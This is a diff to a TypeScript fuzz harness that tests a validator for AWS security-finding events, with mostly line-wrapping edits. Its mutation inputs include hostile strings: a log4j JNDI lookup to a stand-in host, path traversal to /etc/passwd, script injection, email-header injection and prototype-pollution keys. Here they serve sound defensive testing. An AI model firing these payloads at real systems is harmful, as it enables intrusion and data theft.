@@ -80,7 +80,13 @@ export function pathText(path: Path): string {
 // Values.
 
 const FOREIGN_PARTITIONS = ['aws-cn', 'aws-us-gov', 'aws-iso', 'aws-iso-b', 'aws-eusc'] as const;
-const FOREIGN_REGIONS = ['eu-west-1', 'cn-north-1', 'us-gov-west-1', 'us-isob-east-1', 'ap-southeast-7'] as const;
+const FOREIGN_REGIONS = [
+  'eu-west-1',
+  'cn-north-1',
+  'us-gov-west-1',
+  'us-isob-east-1',
+  'ap-southeast-7',
+] as const;
 
 const UNICODE = [
   '\u202Eevil\u202C', // right-to-left override
@@ -96,7 +102,7 @@ const UNICODE = [
   'line\nSubject: injected\r\nBcc: x@example.com',
   '<!channel> <@U123> <https://evil.example|click>',
   '<script>alert(1)</script>&amp;',
-  '${jndi:ldap://evil.example/a}',
+  '\u0024{jndi:ldap://evil.example/a}', // a log4j lookup
   '../../../../etc/passwd',
   '%00%2e%2e%2f',
   '\u0007\u001b[31mred\u001b[0m',
@@ -192,7 +198,8 @@ function hugeString(random: Random): string {
 }
 
 function hugeArray(random: Random, current: unknown): unknown[] {
-  const element = Array.isArray(current) && current.length > 0 ? current[0] : pick(random, ['x', null, 0, {}]);
+  const element =
+    Array.isArray(current) && current.length > 0 ? current[0] : pick(random, ['x', null, 0, {}]);
   return new Array<unknown>(HUGE_ARRAY_LENGTH).fill(element);
 }
 
@@ -362,7 +369,12 @@ function candidates(kind: MutationKind, event: unknown, source: FuzzSource, rand
   }
 }
 
-function applyMutation(kind: MutationKind, event: Record<string, unknown>, path: Key[], random: Random): void {
+function applyMutation(
+  kind: MutationKind,
+  event: Record<string, unknown>,
+  path: Key[],
+  random: Random,
+): void {
   const current = valueAt(event, path);
   switch (kind) {
     case 'delete':
@@ -405,8 +417,22 @@ function applyMutation(kind: MutationKind, event: Record<string, unknown>, path:
       setAt(event, path, pick(random, NUMBER_EDGES));
       return;
     case 'hostile-key': {
-      const key = pick(random, ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty']);
-      const value = pick(random, [{ polluted: true }, 'x', null, 1, [], { toString: 'x', valueOf: 'y' }]);
+      const key = pick(random, [
+        '__proto__',
+        'constructor',
+        'prototype',
+        'toString',
+        'valueOf',
+        'hasOwnProperty',
+      ]);
+      const value = pick<unknown>(random, [
+        { polluted: true },
+        'x',
+        null,
+        1,
+        [],
+        { toString: 'x', valueOf: 'y' },
+      ]);
       setAt(event, [...path, key], value);
       return;
     }
@@ -542,7 +568,8 @@ function runtimeVerdict(event: unknown): Verdict {
   if (typeof clusterName !== 'string' || !/^[A-Za-z0-9_-]{1,255}$/.test(clusterName)) {
     invalid.push('detail.resource.ecsClusterDetails.name');
   }
-  if (!absent(cluster.tags) && !listOfObjects(cluster.tags)) invalid.push('detail.resource.ecsClusterDetails.tags');
+  if (!absent(cluster.tags) && !listOfObjects(cluster.tags))
+    invalid.push('detail.resource.ecsClusterDetails.tags');
   // Sample findings name placeholder resources and are never acted on.
   const sample = isSampleFinding(service);
   const checkArn = (value: unknown, kind: 'task' | 'cluster', field: string): void => {
@@ -550,7 +577,14 @@ function runtimeVerdict(event: unknown): Verdict {
     const parts = typeof value === 'string' && value.length <= MAX_TEXT ? ECS_ARN.exec(value) : null;
     const [, arnPartition, arnRegion, arnAccount, arnKind, rest] = parts ?? [];
     const name = kind === 'cluster' ? /^[A-Za-z0-9_-]+$/ : /^[A-Za-z0-9_-]+\/[A-Za-z0-9]+$/;
-    if (!parts || arnKind !== kind || !rest || !name.test(rest) || !arnAccount || !ACCOUNT_ID.test(arnAccount)) {
+    if (
+      !parts ||
+      arnKind !== kind ||
+      !rest ||
+      !name.test(rest) ||
+      !arnAccount ||
+      !ACCOUNT_ID.test(arnAccount)
+    ) {
       invalid.push(field);
       return;
     }
@@ -610,7 +644,8 @@ function inspectorVerdict(event: unknown): Verdict {
   }
   if (!absent(detail.epss)) {
     if (!isObject(detail.epss)) invalid.push('detail.epss');
-    else if (!absent(detail.epss.score) && !numberIn(detail.epss.score, 0, 1)) invalid.push('detail.epss.score');
+    else if (!absent(detail.epss.score) && !numberIn(detail.epss.score, 0, 1))
+      invalid.push('detail.epss.score');
   }
   const resources = detail.resources;
   if (!Array.isArray(resources)) return bad('detail.resources');
@@ -647,7 +682,8 @@ export function verdict(source: FuzzSource, event: unknown): Verdict {
 
 export const REJECTION_NAMES = ['InvalidFindingError', 'CrossAccountFindingError'] as const;
 /** A field path at the start of a rejection message: `event`, `source`, `detail-type`, `account`, `detail.…`. */
-export const FIELD_PATH = /^(?:event|source|detail-type|account|detail(?:\.[A-Za-z][A-Za-z0-9]*|\[\d+\])*)(?=:? )/;
+export const FIELD_PATH =
+  /^(?:event|source|detail-type|account|detail(?:\.[A-Za-z][A-Za-z0-9]*|\[\d+\])*)(?=:? )/;
 const MAX_MESSAGE = 5000;
 
 export interface CaseOutcome {
@@ -708,7 +744,8 @@ function roundTrips(value: unknown): boolean {
 }
 
 function rejectionProblems(err: unknown): { name: string; message: string; problems: string[] } {
-  if (!(err instanceof Error)) return { name: typeof err, message: String(err), problems: [`crash: threw ${typeof err}`] };
+  if (!(err instanceof Error))
+    return { name: typeof err, message: String(err), problems: [`crash: threw ${typeof err}`] };
   const problems: string[] = [];
   if (!(REJECTION_NAMES as readonly string[]).includes(err.name)) {
     problems.push(`crash: ${err.name}: ${err.message.slice(0, 200)}`);
@@ -718,7 +755,8 @@ function rejectionProblems(err: unknown): { name: string; message: string; probl
       problems.push(`rejection does not start with a field path: ${err.message.slice(0, 200)}`);
     }
   }
-  if (err.message.length > MAX_MESSAGE) problems.push(`rejection message of ${err.message.length} characters`);
+  if (err.message.length > MAX_MESSAGE)
+    problems.push(`rejection message of ${err.message.length} characters`);
   return { name: err.name, message: err.message, problems };
 }
 
@@ -739,7 +777,8 @@ export function runCase(c: FuzzCase): CaseOutcome {
   }
   const problems: string[] = [];
   if (!roundTrips(finding)) problems.push('normalized finding is not plain JSON');
-  if (!/^[A-Za-z0-9_-]{1,128}$/.test(finding.incidentId)) problems.push(`unsafe incident id ${finding.incidentId}`);
+  if (!/^[A-Za-z0-9_-]{1,128}$/.test(finding.incidentId))
+    problems.push(`unsafe incident id ${finding.incidentId}`);
   let path: CaseOutcome['path'];
   try {
     const plan =
@@ -748,7 +787,8 @@ export function runCase(c: FuzzCase): CaseOutcome {
         : decideImageResponse(finding, imageEnrichment(finding), DEFAULT_CONFIG, FUZZ_NOW);
     path = plan.path;
     if (!roundTrips(plan)) problems.push('plan is not plain JSON');
-    if ('stopReason' in plan && plan.stopReason.length > STOP_REASON_MAX) problems.push('stop reason too long');
+    if ('stopReason' in plan && plan.stopReason.length > STOP_REASON_MAX)
+      problems.push('stop reason too long');
   } catch (err) {
     problems.push(`crash in decision: ${err instanceof Error ? `${err.name}: ${err.message}` : String(err)}`);
   }
